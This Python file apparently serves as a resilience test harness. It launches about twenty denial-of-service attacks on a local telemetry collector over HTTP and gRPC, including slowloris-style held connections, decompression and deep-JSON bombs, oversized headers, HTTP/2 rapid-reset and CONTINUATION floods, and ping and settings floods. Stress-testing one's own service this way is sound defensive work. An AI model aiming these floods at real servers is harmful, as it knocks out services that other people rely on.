"""Attacks on a collector, each for as long as its process lives.

``python attack_kinds.py NAME HTTP_PORT GRPC_PORT KEY`` begins one; NAME is a key of `ATTACKS`. Attacks
that a key is needed for use it, the others come from anybody.
"""

from __future__ import annotations

import gzip
import resource
import socket
import struct
import sys
import threading
import time
from dataclasses import dataclass
from itertools import count, repeat
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable

_POST = b"POST /v1/traces HTTP/1.1\r\nhost: x\r\ncontent-type: application/x-protobuf\r\n"
_LARGEST = 64 << 20


@dataclass(frozen=True)
class Target:
    """A collector, and the attacker's key to it."""

    port: int
    grpc_port: int
    key: str

    def connect(self) -> socket.socket:
        return socket.create_connection(("127.0.0.1", self.port))

    @property
    def head(self) -> bytes:
        """The first headers of a request with the key."""
        return _POST + b"authorization: Bearer %s\r\n" % self.key.encode()

    def request(self, body: bytes, *headers: bytes) -> bytes:
        """A whole request with the key."""
        lines = [b"%s\r\n" % header for header in (b"content-length: %d" % len(body), *headers)]
        return self.head + b"".join(lines) + b"\r\n" + body


def again(threads: int, attack: Callable[[], None]) -> None:
    """Do something again and again in some threads."""

    def run() -> None:
        while True:
            try:
                attack()
            except OSError:
                time.sleep(0.02)

    for _ in range(threads):
        threading.Thread(target=run, daemon=True).start()
    threading.Event().wait()


def stream(target: Target, head: bytes, pieces: Iterable[bytes]) -> None:
    """Send pieces on one connection until it is closed."""
    with target.connect() as connection:
        connection.sendall(head)
        for piece in pieces:
            connection.sendall(piece)
        connection.recv(1000)


def ask(target: Target, request: bytes) -> None:
    """Send a request and wait for its answer."""
    with target.connect() as connection:
        connection.sendall(request)
        connection.recv(1000)


def hold(connections: int, target: Target, sent: bytes) -> None:
    """Open connections, send something on each, a byte every second, and open those anew that end."""
    opened: list[socket.socket] = []
    while True:
        while len(opened) < connections:
            try:
                connection = target.connect()
                connection.sendall(sent)
                opened.append(connection)
            except OSError:
                time.sleep(0.02)
                break
        time.sleep(1.0)
        alive = []
        for connection in opened:
            try:
                if sent:
                    connection.sendall(b"x")
                connection.settimeout(0.0)
                ended = connection.recv(1) == b""
            except BlockingIOError:
                ended = False
            except OSError:
                ended = True
            if ended:
                connection.close()
            else:
                connection.settimeout(10.0)
                alive.append(connection)
        opened = alive


def wrapped(tag: int, inner: bytes) -> bytes:
    """A field of a Protobuf message that is one, too."""
    size, rest = b"", len(inner)
    while rest > 127:
        size, rest = size + bytes([rest & 127 | 128]), rest >> 7
    return bytes([tag]) + size + bytes([rest]) + inner


def trailers(target: Target) -> None:
    head = _POST + b"transfer-encoding: chunked\r\n\r\n0\r\n"
    piece = b"".join(b"x%d: %s\r\n" % (n, b"y" * 1000) for n in range(60))
    again(4, lambda: stream(target, head, repeat(piece)))


def extensions(target: Target) -> None:
    head = _POST + b"transfer-encoding: chunked\r\n\r\n"
    piece = b"1;" + b"e" * 60_000 + b"\r\nx\r\n"
    again(4, lambda: stream(target, head, repeat(piece)))


def tiny_chunks(target: Target) -> None:
    head = target.head + b"transfer-encoding: chunked\r\n\r\n"
    piece = b"1\r\nx\r\n" * 10_000
    again(4, lambda: stream(target, head, repeat(piece, 6700)))


def headers(target: Target) -> None:
    request = _POST + b"".join(b"x%d: %s\r\n" % (n, b"y" * 1000) for n in range(120)) + b"\r\n"
    again(8, lambda: ask(target, request))


def pipelined(target: Target) -> None:
    again(8, lambda: stream(target, b"", repeat(b"GET /healthz HTTP/1.1\r\n\r\n" * 10_000)))


def gzip_members(target: Target) -> None:
    body = gzip.compress(b"") * 75_000
    request = target.request(body, b"content-encoding: gzip")
    again(4, lambda: ask(target, request))


def empty_spans(target: Target) -> None:
    spans = wrapped(0x0A, wrapped(0x12, b"\x12\x00" * (2 << 20)))
    request = target.request(gzip.compress(spans), b"content-encoding: gzip")
    again(4, lambda: ask(target, request))


def million_attributes(target: Target) -> None:
    attribute = b'{"key":"a","value":{"intValue":1}},'
    body = b'{"resourceSpans":[{"scopeSpans":[{"spans":[{"attributes":['
    body += attribute * 1_000_000 + b"{}]}]}]}]}"
    request = target.request(gzip.compress(body), b"content-encoding: gzip")
    request = request.replace(b"application/x-protobuf", b"application/json")
    again(4, lambda: ask(target, request))


def deep_json(target: Target) -> None:
    body = b'{"resourceSpans":' + b'[{"a":' * 3_000_000
    request = target.request(gzip.compress(body), b"content-encoding: gzip")
    request = request.replace(b"application/x-protobuf", b"application/json")
    again(4, lambda: ask(target, request))


def declared(target: Target) -> None:
    hold(8, target, target.head + b"content-length: %d\r\n\r\nx" % _LARGEST)


def stalled(target: Target) -> None:
    body = b"\0" * (_LARGEST - 1_000_000)
    hold(8, target, target.head + b"content-length: %d\r\n\r\n" % _LARGEST + body)


def slow_headers(target: Target) -> None:
    hold(2000, target, _POST + b"x: ")


def idle(target: Target) -> None:
    hold(10_000, target, b"")


def bad_keys(target: Target) -> None:
    wrong = Target(target.port, target.grpc_port, "mt_wrong")
    again(16, lambda: ask(target, wrong.request(b"x" * 500_000)))


def noise(target: Target) -> None:
    again(16, lambda: ask(target, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(100)))


def _frame(kind: int, flags: int, number: int, payload: bytes) -> bytes:
    size = struct.pack(">I", len(payload))[1:]
    return size + bytes([kind, flags]) + struct.pack(">I", number) + payload


_HELLO = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")


def _call(number: int, key: str, sent: bytes) -> bytes:
    """The frames of a gRPC call that declares the largest message and sends some bytes of it."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": "/opentelemetry.proto.collector.trace.v1.TraceService/Export",
        ":authority": "x",
        "te": "trailers",
        "content-type": "application/grpc",
        "authorization": f"Bearer {key}",
    }
    block = b"".join(
        b"\0" + bytes([len(k)]) + k.encode() + bytes([len(v)]) + v.encode()
        for k, v in fields.items()
    )
    message = struct.pack(">BI", 0, _LARGEST) + sent
    return _frame(1, 4, number, block) + _frame(0, 0, number, message)


def grpc_slow(target: Target) -> None:
    grpc = Target(target.grpc_port, 0, target.key)
    calls = b"".join(_call(2 * n + 1, target.key, b"x" * 5000) for n in range(10))
    hold(40, grpc, _HELLO + calls)


def _flood(target: Target, frames: Callable[[int], bytes]) -> None:
    """Send frames on gRPC connections as fast as they are read, and read what is answered."""
    grpc = Target(target.grpc_port, 0, target.key)

    def flood() -> None:
        with grpc.connect() as connection:
            connection.sendall(_HELLO)
            connection.settimeout(0.2)
            for number in count():
                connection.sendall(frames(number))
                if not connection.recv(100_000):
                    return

    again(8, flood)


def grpc_pings(target: Target) -> None:
    ping = _frame(6, 0, 0, b"12345678") * 1000
    _flood(target, lambda _: ping)


def grpc_settings(target: Target) -> None:
    settings = _frame(4, 0, 0, b"") * 1000
    _flood(target, lambda _: settings)


def grpc_resets(target: Target) -> None:
    """Calls that are cancelled at once, the "rapid reset" of 2023."""

    def frames(number: int) -> bytes:
        streams = range(200 * number + 1, 200 * number + 201, 2)
        reset = struct.pack(">I", 8)
        return b"".join(_call(n, target.key, b"") + _frame(3, 0, n, reset) for n in streams)

    _flood(target, frames)


def grpc_continuations(target: Target) -> None:
    """Headers that never end, in frames of their own."""
    field = b"\0\x01x\x7f\x81\x7e" + b"y" * 16_000
    more = _frame(9, 0, 1, field) * 10

    def frames(number: int) -> bytes:
        return more if number else _frame(1, 0, 1, b"\x83") + more

    _flood(target, frames)


def grpc_empty_data(target: Target) -> None:
    empty = _frame(0, 0, 1, b"") * 1000

    def frames(number: int) -> bytes:
        return empty if number else _call(1, target.key, b"") + empty

    _flood(target, frames)


def nothing(_: Target) -> None:
    threading.Event().wait()


ATTACKS: dict[str, tuple[str, Callable[[Target], None]]] = {
    "nothing": ("nothing", nothing),
    "trailers": ("4 connections with endless trailers", trailers),
    "extensions": ("4 connections with extensions of chunks of 60 KB", extensions),
    "tiny_chunks": ("4 bodies of 64 MiB in chunks of one byte", tiny_chunks),
    "headers": ("8 senders of 120 KB of headers", headers),
    "pipelined": ("8 connections with requests that do not wait for answers", pipelined),
    "gzip_members": ("4 senders of 1.5 MB of empty gzip members", gzip_members),
    "empty_spans": ("4 senders of 2 million empty spans, 4 KB compressed", empty_spans),
    "million_attributes": (
        "4 senders of a span with a million attributes, in JSON",
        million_attributes,
    ),
    "deep_json": ("4 senders of JSON 3 million levels deep", deep_json),
    "declared": ("8 bodies that declare 64 MiB and send a byte a second", declared),
    "stalled": ("8 bodies that stop a megabyte before their 64 MiB", stalled),
    "slow_headers": ("2,000 connections with a byte of a header a second", slow_headers),
    "idle": ("10,000 idle connections", idle),
    "bad_keys": ("16 senders of 500 KB with a wrong key", bad_keys),
    "noise": ("16 connections after the other with what is no HTTP", noise),
    "grpc_slow": ("400 gRPC calls that declare 64 MiB and send nothing more", grpc_slow),
    "grpc_pings": ("8 gRPC connections that only ping", grpc_pings),
    "grpc_settings": ("8 gRPC connections that only send settings", grpc_settings),
    "grpc_resets": ("8 gRPC connections whose calls are cancelled at once", grpc_resets),
    "grpc_continuations": ("8 gRPC connections with endless headers", grpc_continuations),
    "grpc_empty_data": ("8 gRPC connections with empty frames of data", grpc_empty_data),
}


def main() -> None:
    name, port, grpc_port, key = sys.argv[1:]
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ATTACKS[name][1](Target(int(port), int(grpc_port), key))


if __name__ == "__main__":
    main()
